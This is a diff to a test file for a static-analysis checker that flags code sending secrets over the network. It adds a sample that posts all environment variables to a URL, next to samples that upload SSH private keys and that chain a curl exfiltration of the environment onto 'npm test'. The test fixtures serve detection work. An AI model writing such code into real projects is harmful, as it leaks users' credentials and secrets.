@@ -559,6 +559,8 @@ class NetworkChecker(PythonChecker):
         Invalid('import requests\nfrom pathlib import Path\ndef f(url):\n'
                 '    for p in (Path.home() / ".ssh").glob("id_*"):\n        requests.post(url, data=p.read_bytes())\n',
                 "BDL402", 5),
+        Invalid('import os, requests\nclass Reporter:\n    def __init__(self):\n        self.session = requests.Session()\n'
+                '    def send(self, url):\n        self.session.post(url, json=dict(os.environ))\n', "BDL402", 6),
         # the seed example: environment sent by curl from Python
         Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
                 'shell=True)\n', "BDL402", 2),
